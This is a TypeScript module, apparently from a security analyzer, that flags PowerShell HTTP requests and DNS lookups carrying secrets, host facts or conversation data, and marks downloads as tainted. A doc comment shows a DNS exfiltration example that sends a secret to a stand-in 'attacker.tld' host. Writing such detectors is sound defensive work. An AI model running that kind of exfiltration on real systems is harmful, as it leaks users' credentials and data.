import type { Node } from 'web-tree-sitter';
import type { Taint, Value } from '../../facts.js';
import { concat, literal, tainted } from '../values.js';
import { writeTo } from './cmd-files.js';
import type { PsCtx } from './context.js';
import { endpointOf } from './endpoints.js';
import { data, opaque, type PsVal, ph, toValue } from './psval.js';

/**
 * One HTTP request from PowerShell (cmdlets and .NET clients alike): a `send` with its data when it
 * has a body or carries user or machine data in its URL or custom headers, else a `fetch` whose
 * response is `download`-tainted; `-OutFile` remembers the file written. DNS names built from data are
 * a send too, and TXT lookups a way in.
 */

const SENSITIVE: readonly Taint[] = ['secret', 'system-info', 'conversation'];

/** Data about the user, the machine or the session (a secret, host facts, the conversation). */
export function isSensitive(v: Value): boolean {
  return v.taints.some((t) => SENSITIVE.includes(t)) || v.secret !== undefined;
}

/** Where a request carries credentials (URL, auth headers) a secret-named environment variable is API
 *  authentication, not data (see the JavaScript analyzer's support.ts for the reasoning). */
function isSensitiveBeyondAuth(v: Value): boolean {
  if (v.taints.includes('system-info') || v.taints.includes('conversation')) return true;
  return v.secret !== undefined && v.secret !== 'env-secret';
}

const AUTH_HEADERS =
  /^(?:authorization|proxy-authorization|x-api-key|api-key|x-auth-token|private-token|cookie|user-agent|content-type|accept)$/i;

function headerData(headers: PsVal | undefined): Value | undefined {
  if (headers?.k !== 'hash') return undefined;
  const parts: Value[] = [];
  for (const [k, v] of headers.props) {
    const value = toValue(v);
    if (AUTH_HEADERS.test(k) ? isSensitiveBeyondAuth(value) : isSensitive(value)) parts.push(value);
  }
  return parts.length ? concat(parts) : undefined;
}

/** The downloaded response of `url`. */
export function downloaded(url: string, tool: string): PsVal {
  return data(tainted(literal(`\${${tool}-response}`), 'download', { from: url }));
}

export interface HttpParts {
  body?: PsVal;
  headers?: PsVal;
  outFile?: PsVal;
}

/** One HTTP request: `send` with its data, or `fetch` (to `outFile` when given). */
export function httpCall(
  ix: PsCtx,
  node: Node,
  tool: string,
  urlVal: PsVal | undefined,
  o: HttpParts,
): PsVal {
  const url = toValue(urlVal);
  const endpoint = endpointOf(ix, url.text);
  const parts: Value[] = [];
  const body = o.body ? toValue(o.body) : undefined;
  if (body && body.text !== '') parts.push(body);
  const hd = headerData(o.headers);
  if (hd) parts.push(hd);
  if (!url.literal && isSensitiveBeyondAuth(url)) parts.push(url);
  const out = downloaded(url.text, tool);
  if (parts.length) ix.emit({ kind: 'send', endpoint, channel: 'http', data: concat(parts) }, node);
  else {
    const file = o.outFile ? toValue(o.outFile).text : undefined;
    ix.emit({ kind: 'fetch', endpoint, tool, ...(file ? { file } : {}) }, node);
  }
  if (o.outFile) writeTo(ix, toValue(o.outFile), out, false, node);
  return out;
}

/** `Resolve-DnsName "$secret.attacker.tld"` sends data in the name; TXT records bring data in. */
export function dnsQuery(ix: PsCtx, name: Value, txt: boolean, node: Node, tool: string): PsVal {
  const suffix = name.text.replace(/^[\s\S]*\}\.?/, '');
  if (!name.literal && isSensitive(name))
    ix.emit({ kind: 'send', endpoint: endpointOf(ix, suffix), channel: 'dns', data: name }, node);
  if (!txt) return opaque('address');
  ix.emit({ kind: 'fetch', endpoint: endpointOf(ix, suffix), tool }, node);
  return data(tainted(literal(ph('dns-txt')), 'download', { from: `dns://${name.text.slice(0, 200)}` }));
}
